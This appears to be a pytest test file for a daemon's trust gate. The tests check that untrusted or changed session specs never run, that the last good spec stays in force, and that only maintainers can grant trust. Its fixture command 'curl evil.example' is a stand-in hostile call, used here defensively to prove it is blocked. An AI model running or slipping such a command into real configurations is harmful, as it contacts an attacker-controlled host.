"""Trust as the core knows it: a spec that nobody has trusted is neither admitted nor followed, and its session sleeps with words."""

import pytest
from core.specs import read, session, write
from core.world import World, declare

from msgspec.structs import replace
from wakeful.core import calls
from wakeful.core.decide import decide
from wakeful.core.machine import Core
from wakeful.core.observation import DaemonStarted, SpecsRead
from wakeful.core.spec import CommandRun, ProbeBinding, SessionSpec
from wakeful.core.verdict import find_hold_words
from wakeful.errors import CallerError

WORDS = "needs trust: its spec changed (wakeful trust s shows the difference)"
HOSTILE = CommandRun(argv=("curl", "evil.example"))


def withhold(world: World, spec: SessionSpec) -> None:
    world.observe(SpecsRead(declared=(replace(declare(spec), needs_trust=WORDS),)))


def test_a_new_spec_that_nobody_trusts_makes_a_session_that_shows_it_and_does_nothing() -> None:
    """Not even its probe is run: that is a command, too."""
    world = World(files={"in": "1"})
    withhold(world, session("s", read("in"), ProbeBinding(name="p", argv=("curl", "evil.example")), run=HOSTILE))
    world.rest()
    assert (world.starts("s"), world.hold("s"), world.followed) == (0, WORDS, {})
    assert [entry.kind for entry in world.log] == ["session_opened"]


def test_a_changed_spec_that_nobody_trusts_leaves_the_old_one_in_force_and_asleep() -> None:
    """What it reads is followed as before, so that nothing is lost meanwhile."""
    spec = session("s", read("in"), write("out"))
    world = World(spec, files={"in": "1"})
    world.rest()
    withhold(world, session("s", read("in"), run=HOSTILE))
    world.write("in", "2")
    world.rest()
    assert (world.starts("s"), world.hold("s")) == (1, WORDS)
    assert world.core.state.by_name("s").spec == spec
    assert world.core.state.by_name("s").wake is not None


def test_what_is_trusted_runs_under_the_new_spec() -> None:
    world = World(session("s", read("in")), files={"in": "1"})
    world.rest()
    spec = session("s", read("in"), run=HOSTILE)
    withhold(world, spec)
    world.call(calls.Trust(name="s", digest="d", files=("sessions.d/s.yaml",)))
    assert world.hold("s") == WORDS, "the record alone lets nothing run: the next reading does"
    world.declare(spec)
    world.rest()
    assert (world.starts("s"), world.hold("s")) == (2, None)
    assert world.core.state.by_name("s").spec == spec


def test_a_spec_put_back_as_it_was_needs_nobody() -> None:
    spec = session("s", read("in"))
    world = World(spec, files={"in": "1"})
    world.rest()
    withhold(world, session("s", read("in"), run=HOSTILE))
    world.declare(spec)
    world.rest()
    assert (world.starts("s"), world.hold("s")) == (1, None)


def test_not_even_an_activation_starts_it() -> None:
    world = World(session("s", read("in")), files={"in": "1"})
    world.rest()
    withhold(world, session("s", read("in"), run=HOSTILE))
    with pytest.raises(CallerError, match="needs trust"):
        world.call(calls.Activate(name="s"))


def test_an_activation_that_came_first_waits_as_well() -> None:
    world = World(session("s", read("in")), files={"in": "1"})
    world.rest()
    world.call(calls.Sleep(name="s"))
    world.call(calls.Activate(name="s"))
    world.rest()
    runs = world.starts("s")
    world.write("in", "2")
    withhold(world, session("s", read("in"), run=HOSTILE))
    world.call(calls.Resume(name="s"))
    world.rest()
    assert (world.starts("s"), world.hold("s")) == (runs, WORDS)


def test_after_a_restart_the_last_good_spec_stands_and_sleeps() -> None:
    """The first reading is complete: what it withholds is not gone."""
    spec = session("s", read("in"))
    world = World(spec, files={"in": "1"})
    world.rest()
    hostile = session("s", read("in"), run=HOSTILE)
    core = Core(world.fold_log().values())
    decide(core, DaemonStarted(incarnation="next", settings=world.settings), world.moment)
    decide(core, SpecsRead(declared=(replace(declare(hostile), needs_trust=WORDS),)), world.moment)
    found = core.state.by_name("s")
    assert (find_hold_words(core, found, world.moment), found.spec, found.is_declared) == (WORDS, spec, True)
    assert found.id in core.looked.bounds


def test_readers_wait_for_one_that_sleeps_with_changes() -> None:
    world = World(session("s", read("in"), write("out")), session("reader", read("out")), files={"in": "1"})
    world.rest()
    before = world.starts("reader")
    withhold(world, session("s", read("in"), write("out"), run=HOSTILE))
    world.write("in", "2")
    world.write("out", "by hand")
    world.rest()
    assert world.starts("reader") == before


def test_contributors_do_not_trust() -> None:
    world = World(session("s", read("in"), people={"bob": "contributor"}), files={"in": "1"})
    with pytest.raises(CallerError, match="maintainers"):
        world.call(calls.Trust(name="s", digest="d"), author="person:bob")
